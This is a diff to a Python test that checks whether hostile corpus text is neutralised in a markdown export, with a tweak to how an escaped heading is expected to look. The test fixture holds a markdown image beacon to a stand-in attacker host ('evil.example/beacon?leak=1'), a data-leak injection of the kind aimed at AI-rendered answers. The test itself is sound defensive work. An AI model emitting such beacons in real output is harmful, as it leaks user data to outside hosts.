@@ -172,7 +172,7 @@ def test_hostile_corpus_text_is_inert_in_the_markdown_export() -> None:
                          current_answer=f"## EU\n{HOSTILE} [evil-doc]\n# {HOSTILE}"), "md").decode()
     assert live_markup(md) == []
     assert unescape(md).count("![x](http://evil.example/beacon?leak=1)") == 4
-    assert "### EU" in md and "\n## Owners above 25% \\!\\[x\\]" in md  # headings stay headings, escaped
+    assert "### EU" in md and "\n## Owners above 25% !\\[x\\]" in md  # headings stay headings, escaped
 
 
 def test_docx_tolerates_control_characters() -> None:
